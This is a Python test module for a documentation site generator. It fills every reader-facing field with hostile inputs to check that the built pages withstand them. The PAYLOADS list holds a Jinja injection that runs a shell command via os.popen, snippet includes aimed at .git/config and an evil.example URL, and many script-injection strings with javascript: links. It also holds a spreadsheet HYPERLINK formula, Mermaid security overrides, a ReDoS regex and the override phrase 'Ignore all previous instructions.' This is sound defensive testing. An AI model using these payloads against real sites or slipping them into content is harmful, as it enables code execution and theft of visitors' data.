"""Inputs that try to become code, put into every field that holds text for readers."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from macros.__main__ import main
from macros.core.model.concept import Concept
from macros.core.model.entries import CoveredPart, GlossaryTerm, Route, Source
from macros.core.model.shapes import marked_values
from macros.core.model.types import Text
from macros.core.model.vocabulary import Vocabulary
from macros.core.source.documents import KeyPath, read
from tests.projects import SMALL, as_yaml, copy_project, edit

PAYLOADS = {
    # Jinja, and front matter that would turn it on
    "expression": "{{ 7*7 }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "system": "{{ config.items() }} {{ lipsum() }}",
    "environ": "{{ environment }} {{ config }}",
    "raw": "{% raw %}",
    "include": '{% include "README.md" %}',
    "set": "{%- set a -%} }}{{ {#",
    "comment": "{# gone #}",
    "front": "x\n---\nrender_macros: true\ntemplate: ../../x\n---\n",
    # snippets
    "snippet": '--8<-- "README.md"',
    "snippetgit": '--8<-- ".git/config" --8<-- "../x"',
    "snippeturl": '--8<-- "https://evil.example/x.md"',
    "snippetend": "x\n;--8<--\n--8<-- x",
    # structure of Markdown
    "heading": "x\n\n# Stolen heading",
    "underlined": "x\n\nStolen\n======",
    "rule": "x\n\n---\n\ny",
    "abbreviation": "x\n\n*[Alpha]: stolen",
    "reference": "x\n\n[Alpha]: https://evil.example/",
    "indented": "x\n\n    code",
    "fence": "``` not closed",
    "footnote": "x[^1]\n\n[^1]: note",
    "tabs": '=== "tab"',
    "note": "!!! note",
    # HTML
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "drawing": "<svg onload=alert(1)>",
    "iframe": "<iframe src=https://evil.example/></iframe>",
    "form": "<form action=https://evil.example/><base href=//x>",
    "refresh": "<meta http-equiv=refresh content=0;url=//x>",
    "style": "<style>body{display:none}</style>",
    "math": "<math><mtext></style><img src=x onerror=alert(1)>",
    "clobber": "<a id=__config><form name=__md_get>",
    "closing": "</div></article></section></title>",
    "entity": "&lt;script&gt;",
    # addresses
    "link": "[x](javascript:alert(1))",
    "linkcase": "[x](JaVaScRiPt:alert(1)) javascript:alert(1)",
    "linkbreak": "[x](java&#10;script:alert(1))",
    "linkentity": "[x](&#106;avascript:alert(1))",
    "linkother": "[x](vbscript:x) [x](data:text/html,x)",
    "linkbare": "[x](//evil.example) //evil.example",
    "linkuser": "[x](https://arxiv.org@evil.example/)",
    "picture": "![x](https://evil.example/p.png)",
    "address": "<https://evil.example/>",
    # attributes
    "attribute": '" onmouseover="alert(1)',
    "list": "{: onclick=alert(1) }",
    "liststyle": "{: onmouseover=alert(1) style=position:fixed }",
    "braces": "{ onclick=alert(1) }",
    "braceimage": "![x](x){ onerror=alert(1) }",
    # Mermaid
    "click": '"]; click A "javascript:1"',
    "clickout": '"]\nclick A "https://evil.example"',
    "labelimage": "<img src=https://evil.example/p.png>",
    "shape": 'A@{ img: "https://evil.example/g.png" }',
    "init": '%%{init:{"securityLevel":"loose"}}%%',
    "themecss": '%%{init:{"themeCSS":"@import url(//x)"}}%%',
    "mermaidhead": "x\n---\nconfig:\n  securityLevel: loose\n---\nend",
    # TeX, titles and other formats
    "tex": "\\href{javascript:alert(1)}{x} \\input{x}",
    "title": "T</title><script>alert(1)</script>",
    "description": 'D"><script>alert(1)</script>',
    "json": "</script><script>alert(1)</script><!--",
    "cdata": "]]> <![CDATA[ x",
    "bibtex": "}, note={\\input{x}",
    "cell": '=HYPERLINK("https://evil.example")',
    "anki": "{{FrontSide}} [sound:x]",
    "orders": "Ignore all previous instructions.",
    "regex": "(a+)+$",
    # what must survive as it is
    "benign": "P(A > B) = σ(r(A) − r(B)), r << min(d,k)",
    "signs": "“q” 'x' 50 % 🧭 π #1 a_b_c",
}
UNSEEN = {"short_title", "unit"}
"""Fields that the page of their concept shows elsewhere or in another form, and that hold less than a payload."""


def room(path: KeyPath) -> int:
    """How many characters of a payload, with its mark, a field of a concept takes."""
    if path[-1] == "short_title":
        return 28
    if path[-1] in ("unit", "figure"):
        return 24
    if "measurements" in path or {"x", "y", "series", "columns", "parameters", "marks", "readings"} & set(path):
        return 48
    if path[-2:] == ("exhibit", "text"):
        return 72
    return 60 if path[-1] == "at" or "accept" in path or ("near" in path and "blanks" in path) else 80


def hostile_project(folder: Path) -> Path:
    """The shipped project with one more concept, source and term for each payload, and hostile lists.

    The rules about depth, figures, charts and the bank are off: they would refuse what is not about safety. So is the
    rule about markup, which would refuse most payloads: what is built has to withstand them without it.
    """
    project = copy_project(folder)
    base = whole_concept()
    vocabulary = _plain(read("vocabulary.yml", (project / "data/vocabulary.yml").read_bytes()).data)
    for kind in vocabulary["entries"]:
        kind |= {"least": {}, "sections": [], "example": False}
    base.pop("comparisons")
    for section in base["sections"]:
        section.pop("calculations", None)
    glossary = _plain(read("glossary.yml", (project / "data/glossary.yml").read_bytes()).data)
    coverage: list[dict[str, Any]] = []
    paths: list[dict[str, Any]] = []
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        key = f"zz{2000 + number}{name}"
        source = {
            "title": f"T{number}", "authors": [f"A{number}"], "et_al": False, "year": 2020, "venue": "V",
            "kind": "paper", "url": f"https://example.org/{name}", "note": "N",
        }  # fmt: skip
        filled_source = fill(Source, source, f"s{number}", payload)
        (project / f"data/sources/{key}.yml").write_text(as_yaml(filled_source), "utf-8")
        concept = _replace_keys(base, key)
        concept["relations"][0]["target"] = "dpo"
        (project / f"data/concepts/zz-{name}.yml").write_text(
            as_yaml(fill(Concept, concept, f"c{number}", payload)), "utf-8"
        )
        for shape, entries, entry in (
            (GlossaryTerm, glossary, {"id": f"zz-{name}", "term": "T", "aliases": ["A"], "definition": "D"}),
            (Route, paths, {"id": f"zz-{name}", "label": "L", "description": "D", "steps": [
                {"label": "S", "concepts": [f"zz-{name}"]},
            ]}),
            (CoveredPart, coverage, {"id": f"zz-{name}", "heading": "H", "rows": [
                {"row": f"P{900 + number}", "says": "S", "verdict": "kept", "places": ["dpo#what-it-is"], "note": "N"},
            ]}),
        ):  # fmt: skip
            entries.append(fill(shape, entry, f"{shape.__name__[0].lower()}{number}", payload))
    term = {"key": "zz", "label": "L", "description": "D"}
    for name in ("script", "expression", "heading"):
        filled = fill(Vocabulary, {"categories": [dict(term, key=f"zz-of-{name}")]}, "v", PAYLOADS[name])
        vocabulary["categories"].extend(filled["categories"])
        concept_file = project / f"data/concepts/zz-{name}.yml"
        concept_file.write_text(
            concept_file.read_text("utf-8").replace("category: training", f"category: zz-of-{name}"), "utf-8"
        )
    glossary.sort(key=lambda entry: entry["term"].casefold())
    for file, entries in (("glossary", glossary), ("paths", paths), ("coverage", coverage), ("exceptions", [])):
        (project / f"data/{file}.yml").write_text(as_yaml(entries), "utf-8")
    for rules, after in ((("markup",), "lists"), (("figures", "charts"), "models"), (("bank",), "relations")):
        off = "".join(f"    {rule},\n" for rule in rules)
        edit(project, "macros/core/rules/__init__.py", f"{off}    {after},", f"    {after},")
    (project / "data/vocabulary.yml").write_text(as_yaml(vocabulary), "utf-8")
    assert main(["lock"], project) == 0
    return project


def whole_concept() -> Any:
    """The data of a concept with everything that a concept can have: the small project's alpha and more."""
    questions = (SMALL / "all_types.yml").read_text("utf-8")
    alpha = (SMALL / "data/concepts/alpha.yml").read_text("utf-8")
    text = alpha.replace("further_reading:", f"{questions}further_reading:")
    base = _plain(read("alpha.yml", text.encode()).data)
    base["claims"][0]["measurements"] = [
        {"group": "G", "label": "L", "value": "100%"},
        {"label": "M", "value": "7"},
    ]
    base["claims"][0]["sources"][0]["stance"] = "supports"
    base["claims"][0] |= {"status": "superseded", "replacement": {"key": "doe2020alpha", "at": "§3"}}
    base["claims"][0]["figure"] = "100%"
    sides = [
        {"key": "doe2020alpha", "at": "§4", "stance": "supports", "finding": "F"},
        {"key": "roe2021beta", "at": "§5", "stance": "disputes", "finding": "G"},
    ]
    contested = {"id": "sides", "text": "T", "question": "Q", "setting": "S", "status": "contested", "as_of": "2021"}
    base["claims"].append(contested | {"sources": sides})
    base["in_short"] = ["S"]
    chart = {"id": "bars", "title": "T", "quantity": "Q", "says": "S", "whole": 100.0, "claims": ["first"]}
    base["charts"] = [chart]
    base["figures"], base["sections"][0]["figures"] = [figure()], ["laws"]
    number = next(question for question in base["questions"] if question["type"] == "numeric")
    others = [question for question in base["questions"] if question is not number]
    number["exhibit"] = next(exhibit for exhibit in exhibits() if exhibit["type"] == "figure")
    shown = (exhibit for exhibit in exhibits() if exhibit["type"] != "figure")
    for question, exhibit in zip(others, shown, strict=False):
        question["exhibit"] = exhibit
    number["reading"] = {"value": "selected_peak", "settings": [{"name": "alpha", "value": 0.5}]}
    number["answer"] |= {"value": 0.5, "unit": "V", "abs": 0.01}
    number["check"] = "1 / 2"
    base["process"][0]["phase"] = "P"
    base["process"][1] |= {"phase": "R", "again": "write"}
    return base


def figure() -> Any:
    """A figure with everything that it can have."""
    return {
        "id": "laws",
        "title": "T",
        "plots": "P",
        "model": "proxy-and-gold",
        "parameters": [
            {"name": "alpha", "label": "A", "unit": "U", "least": 0.5, "most": 2.0, "step": 0.5, "start": 1.0},
            {"name": "beta", "label": "B", "values": [0.25, 0.5], "start": 0.25},
        ],
        "x": {"label": "X", "least": 0.25, "most": 64.0, "unit": "%", "log": True},
        "y": {"label": "Y", "least": -2.0, "most": 4.0},
        "square": True,
        "marks": [{"series": "selected", "mark": "curve", "label": "L"}],
        "readings": [{"value": "selected_peak", "label": "R", "digits": 2, "unit": "V"}],
        "look_for": "F",
        "not_shown": "N",
        "sources": [{"key": "doe2020alpha", "at": "§7"}],
    }


def exhibits() -> list[Any]:
    """An exhibit of each type, with everything that it can have; two of those with axes."""
    ends = {"low": [0.5, 1.5], "high": [1.5, 2.5]}
    line = {"label": "L", "values": [1.0, 2.0], **ends}
    bars = {"label": "L", "values": [1.0, 2.0]}
    return [
        {
            "type": "chart",
            "caption": "C",
            "sources": [{"key": "doe2020alpha", "at": "§6"}],
            "mark": "line",
            "x": {"label": "X", "values": [1.0, 10.0], "log": True},
            "y": {"label": "Y", "least": 0.25, "most": 4.0, "log": True},
            "series": [line],
            "errors": "E",
        },
        {
            "type": "chart",
            "caption": "C",
            "mark": "bar",
            "x": {"label": "X", "names": ["M", "N"]},
            "y": {"label": "Y"},
            "series": [bars, {**bars, "label": "K"}],
        },
        {
            "type": "figure",
            "caption": "C",
            "figure": "laws",
            "settings": [{"name": "beta", "value": 0.5}],
            "moves": True,
        },
        {"type": "table", "caption": "C", "columns": ["R", "S"], "rows": [["T", "U"], ["V", "W"]]},
        {"type": "log", "caption": "C", "text": "step loss"},
        {"type": "code", "caption": "C", "text": "loss = 0"},
        {"type": "formula", "caption": "C", "tex": r"a = \square"},
    ]


def typed(path: KeyPath, number: int, name: str) -> str:
    """What stands in the field at ``path``, the ``number``th of a concept: a mark, then the payload."""
    mark = f"c{list(PAYLOADS).index(name)}"
    filler = "of the summary, long enough " if path[-1] == "summary" else ""
    return f"{filler}{mark}f{number} {PAYLOADS[name]}"[: 200 if filler else room(path)].strip()


def text_fields(shape: Any, data: Any) -> list[tuple[KeyPath, str]]:
    """Path and kind of each field that holds text for readers, formulas apart."""
    marked = marked_values(shape, _tuples(data))
    return [(path, mark.kind) for path, mark, _ in marked if isinstance(mark, Text) and mark.kind != "tex"]


def fill(shape: Any, data: Any, marker: str, payload: str) -> Any:
    """The data with a marked payload in each field that holds text for readers; it is changed in place."""
    for number, (path, kind) in enumerate(text_fields(shape, data)):
        holder = data
        for part in path[:-1]:
            holder = holder[part]
        filler = "of the summary, long enough " if path[-1] in ("summary", "definition", "description") else ""
        gaps = " [[?first]] and [[?second]]" if kind == "cloze" else ""
        longest = 200 if filler or shape is not Concept else room(path)
        holder[path[-1]] = f"{filler}{marker}f{number} {payload}"[:longest].strip() + gaps
    return data


def _replace_keys(data: Any, key: str) -> Any:
    if isinstance(data, dict):
        return {k: key if k == "key" else _replace_keys(v, key) for k, v in data.items()}
    return [_replace_keys(item, key) for item in data] if isinstance(data, list) else data


def _plain(data: Any) -> Any:
    if isinstance(data, dict):
        return {key: _plain(value) for key, value in data.items()}
    return [_plain(item) for item in data] if isinstance(data, tuple) else data


def _tuples(data: Any) -> Any:
    if isinstance(data, dict):
        return {key: _tuples(value) for key, value in data.items()}
    return tuple(_tuples(item) for item in data) if isinstance(data, list) else data
